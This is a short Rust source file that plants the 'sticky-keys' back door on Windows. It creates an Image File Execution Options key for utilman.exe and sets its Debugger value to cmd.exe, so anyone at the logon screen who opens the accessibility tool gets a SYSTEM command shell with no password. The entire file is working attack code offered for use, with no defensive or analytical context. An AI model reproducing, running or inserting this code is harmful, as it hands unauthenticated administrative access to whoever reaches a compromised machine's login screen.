//! Makes the accessibility program at the logon screen start a shell instead (the
//! sticky-keys back door).
use winreg::enums::HKEY_LOCAL_MACHINE;
use winreg::RegKey;

pub fn plant() -> std::io::Result<()> {
    let base = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options";
    let (key, _) = RegKey::predef(HKEY_LOCAL_MACHINE).create_subkey(format!(r"{base}\utilman.exe"))?;
    key.set_value("Debugger", &r"C:\Windows\System32\cmd.exe")
}
